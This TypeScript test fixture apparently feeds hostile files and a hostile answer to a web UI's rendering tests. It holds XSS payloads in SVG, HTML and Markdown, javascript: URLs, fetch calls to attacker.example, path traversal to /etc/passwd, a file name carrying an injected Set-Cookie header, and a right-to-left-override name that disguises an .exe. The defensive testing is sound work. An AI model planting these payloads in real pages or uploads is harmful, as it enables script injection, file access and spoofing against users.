import type { FileSpec } from './fileSpec.ts';

/** What an SVG or an HTML file tries when it is run: it marks the page, and asks another origin. */
const SCRIPT = `
  try { top.document.documentElement.setAttribute('data-hostile-ran', location.href); } catch {}
  fetch('https://attacker.example/ran').catch(() => {});
`;

const MB = 1_000_000;

/**
 * Files that try to leave their place: in a page nothing of them may run, nothing may be asked of another origin, and
 * each keeps its own name. For `world.addSession`, `world.addFiles`, and the scenario `hostile-files`.
 */
export const HOSTILE_FILES: readonly FileSpec[] = [
  {
    path: 'data/plots/script.svg',
    content: `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="${attribute(SCRIPT)}">
  <script>${SCRIPT}</script>
  <image href="https://attacker.example/pixel.png" width="20" height="20"/>
  <foreignObject width="100" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attacker.example/"/></foreignObject>
  <rect x="20" y="20" width="160" height="60" fill="#dc2626"/>
</svg>
`,
  },
  {
    path: 'summaries/report.html',
    content: `<!doctype html><title>Report</title><script>${SCRIPT}</script>
<meta http-equiv="refresh" content="0; url=https://attacker.example/">
<img src="https://attacker.example/pixel.png" onerror="${attribute(SCRIPT)}">
`,
  },
  { path: 'data/plots/page.png', content: `<!doctype html><script>${SCRIPT}</script>` },
  { path: 'data/plots/broken.png', content: 'This is not a PNG.\n' },
  { path: 'summaries/notes.md', content: `[result](javascript:alert(1)) <script>${SCRIPT}</script>\n` },
  { path: 'data/../../../../../../etc/passwd', content: 'simulated, from no disk\n' },
  { path: 'data/%2e%2e/%2e%2e%2fsecret.csv' },
  { path: 'data/100% & more?path=a#b+c;d.csv' },
  { path: 'data/quotes "double" \'single\' `back`.csv' },
  { path: 'data/line\nbreak\r\nSet-Cookie: hostile=1.csv' },
  { path: 'data/<img src=x onerror="document.documentElement.setAttribute(\'data-hostile-ran\', 1)">.csv' },
  // Shown from right to left, it looks like a picture: `spectrumexe.png`.
  { path: 'data/plots/spectrum\u202egnp.exe' },
  { path: `data/${'a-very-long-name-'.repeat(14)}.csv` },
  { path: 'data/outside.csv', name: '../../outside.csv' },
  { path: 'plots/relative.png', verbatim: true },
  { path: 'javascript:document.documentElement.setAttribute("data-hostile-ran",1)', verbatim: true, type: 'plot' },
  { path: 'data/samples.h5', size: 200 * MB },
  { path: 'data/plots/huge.png', size: 200 * MB },
  { path: 'data/huge.csv', size: 200 * MB },
  { path: 'data/field.holo', type: 'hologram' },
  { path: 'data/unknown-size.csv', size: null },
  { path: 'data/plots/deleted.png', gone: true },
];

/** The conversation of a run that ends with markup. */
export const HOSTILE_ANSWER = `<img src=x onerror="document.documentElement.setAttribute('data-hostile-ran', 1)">

[The result](javascript:document.documentElement.setAttribute('data-hostile-ran',1)) is in <script>${SCRIPT}</script> \u202etxt.exe`;

function attribute(script: string): string {
  return script.trim().replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
}
